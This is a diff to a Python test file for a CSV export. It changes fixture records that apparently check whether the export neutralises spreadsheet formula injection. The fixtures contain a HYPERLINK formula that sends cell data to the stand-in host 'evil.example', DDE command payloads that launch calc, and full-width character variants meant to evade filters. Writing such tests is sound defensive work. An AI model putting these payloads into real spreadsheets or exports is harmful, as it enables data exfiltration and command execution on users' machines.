@@ -200,10 +200,12 @@ def test_write_table_is_private_from_creation(tmp_path):
 # --- graphsvc export ----------------------------------------------------------------------------
 
 
-IDENTITY_VALUES = {  # people.csv: legal_name, phone, address of p-001 … p-003; visits.csv: notes
+IDENTITY_VALUES = {  # people.csv: legal_name, phone, address of p-001 … p-004; visits.csv: notes
+    # (a phone is a phone: records.PHONE_RE; a leading '+' is still a formula to a spreadsheet)
     "p-001": ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+82 10-1234-5678", "'=x"),
-    "p-002": ("＝1+1", "-", "@SUM(1+1)*cmd|' /C calc'!A0"),
-    "p-003": ("'", "－3", "＠home"),
+    "p-002": ("＝1+1", "", "@SUM(1+1)*cmd|' /C calc'!A0"),
+    "p-003": ("'", "", "＠home"),
+    "p-004": ("-", "", "－3"),
 }
 NOTES = {"v-001": "+cmd|' /C calc'!A0", "v-003": "'처음 방문"}
 
